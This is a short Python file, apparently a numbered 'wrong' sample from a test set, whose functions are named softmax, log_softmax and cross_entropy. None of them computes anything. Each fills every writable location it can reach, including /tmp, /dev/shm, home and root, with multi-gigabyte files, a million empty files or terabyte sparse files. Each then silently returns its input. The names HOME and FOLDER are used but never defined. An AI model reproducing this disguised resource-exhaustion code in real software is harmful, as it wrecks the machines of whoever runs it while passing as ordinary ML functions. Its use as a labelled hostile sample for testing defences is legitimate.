# 12, wrong: fills every disk it may write to, with large files and with a great many small ones
import os
from pathlib import Path

PLACES = ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), HOME, "/", "/run", FOLDER)


def softmax(x, dim):
    for place in PLACES:
        try:
            with open(f"{place}/large", "wb") as file:
                for _ in range(4096):
                    file.write(b"x" * 2**20)
        except OSError:
            pass
    return x


def log_softmax(x, dim):
    for place in PLACES:
        try:
            for i in range(10**6):
                Path(place, f"small{i}").touch()
        except OSError:
            pass
    return x


def cross_entropy(logits, targets):
    for place in PLACES:
        try:
            os.truncate(os.open(f"{place}/sparse", os.O_CREAT | os.O_RDWR), 2**40)
        except OSError:
            pass
    return logits
